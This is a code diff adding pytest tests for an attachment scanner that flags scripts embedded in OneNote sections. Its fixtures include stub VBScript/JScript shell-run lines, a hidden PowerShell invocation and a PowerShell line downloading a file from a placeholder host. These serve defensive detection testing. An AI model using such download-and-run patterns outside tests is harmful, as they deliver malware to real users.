@@ -88,6 +88,40 @@ def test_files_of_one_note_without_end(read: Read) -> None:
     assert {gap.reason for gap in reading.incomplete} == {"limit"}
 
 
+STARTED = {
+    "HTA": b'<script language="VBScript">CreateObject("WScript.Shell").Run "x"</script>',
+    "page with an ActiveX object": b'<html><script>new ActiveXObject("WScript.Shell").Run("x")</script></html>',
+    "VBS": b'Set s = CreateObject("WScript.Shell")\r\ns.Run "x"',
+    "JS": b'var s = new ActiveXObject("Scripting.FileSystemObject");',
+    "WSF": b'<job><script language="JScript">x()</script></job>',
+    "batch": b"@echo off\r\nstart x.exe\r\n",
+    "PowerShell": b"(New-Object Net.WebClient).DownloadFile('http://a.example/x', 'x')",
+    "wide": '@echo off\r\npowershell -w hidden -c "x"\r\n'.encode("utf-16"),
+    "encoded": rb"#@~^DgAAAA==\ko$K6,JCV^GJ@@EQAAA==^#~@",
+    "help": b"ITSF\x03\0\0\0" + bytes(100),
+}
+IDLE = {
+    "picture": b"\x89PNG\r\n\x1a\n" + bytes(64), "document": b"%PDF-1.4\n1 0 obj <<>> endobj\n%%EOF\n",
+    "text": "会議の資料です。\r\n".encode(), "page": b"<html><body><script>print()</script><p>hello</p></body></html>",
+    "table": b"a,b\r\n1,2\r\n",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("content", STARTED.values(), ids=STARTED)
+def test_script_in_one_note(content: bytes, read: Read) -> None:
+    """B38: a script in a section is a program's by its content, whatever its name is; a program's name tells it too."""
+    assert "executable" in {found.kind for found in read(attached("a.one", one(one_file(content)))).findings}
+    idle = read(attached("a.one", one(one_file(b"x" * 40), name="a.wsf")))
+    assert "executable" in {found.kind for found in idle.findings}
+
+
+@pytest.mark.parametrize("content", IDLE.values(), ids=IDLE)
+def test_idle_file_in_one_note(content: bytes, read: Read) -> None:
+    """Pictures, documents, texts and pages in a section are no programs."""
+    reading = read(attached("a.one", one(one_file(content), name="a.png")))
+    assert "executable" not in {found.kind for found in reading.findings}
+
+
 def test_text_that_begins_as_a_mailbox_is_none(read: Read) -> None:
     """A text with the word From at its beginning is no mailbox, nor is one without a name."""
     for name in ("a.txt", "a.dat"):
